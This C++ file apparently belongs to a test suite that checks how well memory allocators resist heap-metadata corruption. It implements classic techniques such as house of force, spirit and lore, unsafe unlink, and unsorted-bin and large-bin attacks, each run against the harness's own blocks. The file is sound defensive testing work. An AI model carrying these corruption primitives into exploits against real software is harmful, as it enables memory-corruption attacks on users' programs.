// Attacks that forge what lies before a block in allocators with headers: sizes, flags, list pointers of larger chunks.
// Elsewhere they are writes past the end of the block before.
#include <cstring>

#include "attack.hpp"

using namespace attack;

namespace {

// Three blocks, adjacent and in this order in allocators that carve them from one chunk.
struct three {
    explicit three(std::size_t size)
        : low(allocate_bytes(size)), mid(allocate_bytes(size)), high(allocate_bytes(size)) {
        for (bytes block : {low, mid, high}) std::memset(block, 0x11, size);
        allocate(32);  // keeps them from the top of the heap
    }
    bytes low, mid, high;
};

constexpr std::size_t chunk_of(std::size_t size) { return (size + 8 + 15) / 16 * 16; }

// The middle one claims to be as long as two; freed and allocated again at that length it lies over the third.
template <std::size_t size>
outcome enlarged_then_freed() {
    three blocks(size);
    word(blocks.mid, -1) = 2 * chunk_of(size) | 1;
    release(blocks.mid);
    std::size_t both = 2 * chunk_of(size) - 8;
    static live_blocks found;
    found.add(blocks.low, size);
    found.add(blocks.high, size);
    found.add_new(both);
    return worked_if(found.overlap());
}

// The same while it is free.
outcome freed_then_enlarged() {
    constexpr std::size_t size = 1280;
    three blocks(size);
    release(blocks.mid);
    word(blocks.mid, -1) = 2 * chunk_of(size) | 1;
    static live_blocks found;
    found.add(blocks.low, size);
    found.add(blocks.high, size);
    found.add_new(2 * chunk_of(size) - 8);
    return worked_if(found.overlap());
}

// One zero byte over the size behind: the chunk shrinks, and what is freed later reaches back over a live block.
outcome poisoned_by_one_zero() {
    three blocks(0x4f8);
    release(blocks.low);
    word(blocks.high, -2) = 2 * chunk_of(0x4f8);
    reinterpret_cast<bytes>(&word(blocks.high, -1))[0] = 0;
    release(blocks.high);
    static live_blocks found;
    found.add(blocks.mid, 0x4f8);
    found.add_new(0x4f8);
    found.add_new(0x9f0);
    return worked_if(found.overlap());
}

bytes global_pointer;

// A forged free chunk inside a block; freeing the next one unlinks it and writes over the pointer to the first.
outcome unsafe_unlink() {
    constexpr std::size_t size = 0x420;
    three blocks(size);
    global_pointer = blocks.low;
    auto place = number(&global_pointer);
    word(blocks.low, 0) = 0;
    word(blocks.low, 1) = size;
    word(blocks.low, 2) = place - 0x18;
    word(blocks.low, 3) = place - 0x10;
    word(blocks.low, 4) = 0;
    word(blocks.low, 5) = 0;
    word(blocks.mid, -2) = size;
    word(blocks.mid, -1) = chunk_of(size);
    release(blocks.mid);
    return worked_if(global_pointer != blocks.low);
}

// The rest of the heap claims to be as large as the address space; one request moves it to the victim.
outcome house_of_force() {
    bytes last = allocate_bytes(256);
    word(last + usable_size(last), 0) = ~std::uintptr_t{0};
    std::uintptr_t distance = number(victim.payload()) - 32 - number(last + usable_size(last));
    allocate(distance);
    static live_blocks found;
    found.add_new(256);
    return worked_if(found.in_victim());
}

// A chunk that the attacker has laid out is freed, and is to be handed out.
template <std::size_t size>
outcome house_of_spirit() {
    victim.look_like_a_chunk(size);
    release(victim.payload());
    static live_blocks found;
    found.add_new(size);
    return worked_if(found.in_victim());
}

// The backward pointer of a chunk in a list of larger sizes leads to the victim.
template <std::size_t size, bool sorted>
outcome house_of_lore() {
    three blocks(size);
    void* fill[7];
    for (void*& block : fill) block = allocate(size);
    for (void* block : fill) release(block);
    release(blocks.mid);
    if (sorted) allocate(size * 8);
    // Ten forged chunks that lead backward from one to the next: a cache may be filled from this list.
    victim.look_like_a_chunk(size);
    word(victim.payload(), 0) = number(blocks.mid - 16);
    for (int i = 0; i < 10; i++) word(victim.payload() + i * 64, 1) = number(victim.payload() + (i + 1) * 64 - 16);
    word(blocks.mid, 1) = number(victim.payload() - 16);
    static live_blocks found;
    found.add_new(size);
    return worked_if(found.in_victim());
}

// Where does it write? A list that takes chunks out by their backward pointer stores its own address there.
outcome unsorted_bin_attack() {
    constexpr std::size_t size = 0x500;
    three blocks(size);
    release(blocks.mid);
    victim.words[8] = 0;
    word(blocks.mid, 1) = number(&victim.words[8]) - 16;
    allocate(size);
    allocate(size);
    return worked_if(victim.words[8] != 0);
}

outcome large_bin_attack() {
    three first(0x528), second(0x518);
    release(first.mid);
    allocate(0x800);
    release(second.mid);
    victim.words[8] = 0;
    word(first.mid, 3) = number(&victim.words[8]) - 0x20;
    allocate(0x800);
    allocate(0x510);
    return worked_if(victim.words[8] != 0);
}

// The size of a block that has a mapping of its own grows over the mapping beside it.
outcome enlarged_mapping() {
    constexpr std::size_t size = 1 << 20;
    bytes blocks[3];
    for (bytes& block : blocks) std::memset(block = allocate_bytes(size), 0x11, size);
    bytes low = blocks[0] < blocks[1] ? blocks[0] : blocks[1];
    bytes high = blocks[0] < blocks[1] ? blocks[1] : blocks[0];
    word(low, -1) = (2 * (size + 4096)) | 2;
    release(low);
    static live_blocks found;
    found.add(high, size);
    found.add_new(2 * size);
    // Its page is either gone, which is a crash here, or still its own.
    if (high[0] != 0x11 || high[size - 1] != 0x11) return outcome::succeeded;
    return worked_if(found.overlap());
}

template <std::size_t size>
outcome zeroed_header() {
    three blocks(size);
    word(blocks.mid, -1) = 0;
    word(blocks.mid, -2) = 0;
    release(blocks.mid);
    churn(size);
    return look_for_overlap(size, blocks.high, size);
}

template <std::size_t size>
outcome filled_header() {
    three blocks(size);
    std::memset(blocks.mid - 16, 0x41, 16);
    release(blocks.mid);
    churn(size);
    return look_for_overlap(size, blocks.high, size);
}

}  // namespace

const attack_case attack::header_cases[] = {
    {"header-enlarged", "header", "a live chunk claims to be twice as long, 64 B", enlarged_then_freed<72>},
    {"header-enlarged-1k", "header", "the same, 1.3 kB", enlarged_then_freed<1288>},
    {"header-enlarged-free", "header", "a free chunk claims to be twice as long", freed_then_enlarged},
    {"header-poison-zero", "header", "one zero byte over the next chunk's size", poisoned_by_one_zero},
    {"header-unsafe-unlink", "header", "a forged free chunk before one that is freed", unsafe_unlink},
    {"header-house-of-force", "header", "the rest of the heap claims to be endless", house_of_force},
    {"header-house-of-spirit", "header", "a forged chunk of 64 B is freed", house_of_spirit<64>},
    {"header-house-of-spirit-512", "header", "a forged chunk of 512 B is freed", house_of_spirit<512>},
    {"header-house-of-lore", "header", "a backward pointer in a sorted list", house_of_lore<0x300, true>},
    {"header-unsorted", "header", "a backward pointer in an unsorted list", house_of_lore<0x300, false>},
    {"header-unsorted-write", "header", "an address written through an unsorted list", unsorted_bin_attack},
    {"header-large-bin", "header", "an address written through a list of large chunks", large_bin_attack},
    {"header-mapping", "header", "a large block claims its neighbour's mapping", enlarged_mapping},
    {"header-zero", "header", "64 B, both words before it are zero", zeroed_header<72>},
    {"header-zero-2k", "header", "2 KiB, both words before it are zero", zeroed_header<2056>},
    {"header-filled", "header", "64 B, both words before it are filled", filled_header<72>},
    {"header-filled-2k", "header", "2 KiB, both words before it are filled", filled_header<2056>},
    {"header-filled-mid", "header", "20 kB, both words before it are filled", filled_header<20008>},
    {nullptr, nullptr, nullptr, nullptr}};
